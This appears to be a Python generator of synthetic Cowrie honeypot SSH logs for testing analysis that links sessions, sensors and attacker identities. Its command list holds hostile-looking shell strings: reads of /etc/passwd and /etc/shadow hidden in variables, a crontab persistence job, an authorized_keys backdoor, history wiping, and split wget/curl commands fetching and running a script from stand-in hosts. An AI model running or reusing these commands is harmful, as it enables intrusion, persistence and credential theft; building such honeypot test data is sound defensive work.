"""A Cowrie log of many long visits at once, whose later commands mean nothing without the variables of earlier ones.

Forty sessions are open at any time and take turns, on two sensors, over a midnight. Addresses belong to owners of four
each, who share a client, a script and a payload, so that there are identities to be found. No session is ever silent
for as long as would end it, so what is to be stored does not depend on how long a run takes.
"""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

START = datetime(2026, 11, 18, 23, 50, tzinfo=UTC)
OPEN = 40
ADDRESSES, OWNER_HAS = 120, 4
LONGEST_PAUSE_MS = 160
_FETCHERS = (("wg", "et"), ("cu", "rl"), ("busybox w", "get"), ("tf", "tp -g -r"))
_DEEDS = (
    "uname -a",
    "cat /etc/pas$mid",
    "ls -la; whoami; id",
    "cat /proc/cpuinfo | grep name | wc -l",
    "(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -",
    "echo ssh-rsa AAAAB3Nza >> ~/.ssh/authorized_keys",
    "chmod +x $bin && ./$bin",
    "cat /etc/sha$end",
    "history -c; unset HISTFILE",
    "ps aux | grep $bin",
)


def lines(count: int, seed: int = 11) -> list[str]:
    """``count`` lines or a few more: every session is closed at the end."""
    chance = random.Random(seed)  # noqa: S311 - a run must be repeatable
    numbers = iter(range(count))
    visits = [_visit(next(numbers), chance) for _ in range(OPEN)]
    at, found = START, list[str]()
    while visits:
        place = chance.randrange(len(visits))
        record = next(visits[place], None)
        if record is not None:
            at += timedelta(milliseconds=chance.randrange(1, LONGEST_PAUSE_MS))
            found.append(json.dumps(record | {"timestamp": at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}))
        elif len(found) < count - OPEN * 20:
            visits[place] = _visit(next(numbers), chance)
        else:
            del visits[place]
    return found


def _visit(number: int, chance: random.Random) -> Iterator[dict[str, Any]]:
    """One session, without its times."""
    host = chance.randrange(ADDRESSES)
    owner = host // OWNER_HAS
    shared = {
        "session": f"{number:012x}",
        "src_ip": f"198.51.100.{host + 1}",
        "src_port": 40_000 + number % 20_000,
        "protocol": "ssh",
        "sensor": f"svr0{number % 2}",
    }

    def record(eventid: str, **own: object) -> dict[str, Any]:
        return {"eventid": f"cowrie.{eventid}", **shared, **own}

    yield record("session.connect")
    yield record("client.version", version="SSH-2.0-Go")
    yield record("client.kex", hassh=f"{owner:032x}", hasshAlgorithms="curve25519-sha256;aes128-ctr;hmac-sha2-256;none")
    for _ in range(chance.randrange(1, 8)):
        yield record("login.failed", username="root", password=f"pass{chance.randrange(50)}")
    yield record("login.success", username="root", password=f"own{owner}")
    for text in _commands(number, owner, chance):
        yield record("command.input", input=text)
    yield record("session.file_download", url=_url(owner), shasum=f"{owner:064x}", outfile="x")
    yield record("session.closed", duration_ms=chance.randrange(500, 60_000))


def _commands(number: int, owner: int, chance: random.Random) -> Iterator[str]:
    """A long script; the names of its variables are those of this session, their values change on the way."""
    yield f"mid=swd; end=dow; bin=.x{owner}"
    for part in range(chance.randrange(4, 14)):
        first, second = _FETCHERS[(owner + part) % len(_FETCHERS)]
        yield f"a{number}={first}; b{number}={second}"
        yield from chance.choices(_DEEDS, k=chance.randrange(3, 9))
        yield f"$a{number}$b{number} {_url(owner)}"


def _url(owner: int) -> str:
    return f"http://203.0.113.{owner + 1}/bins.sh"
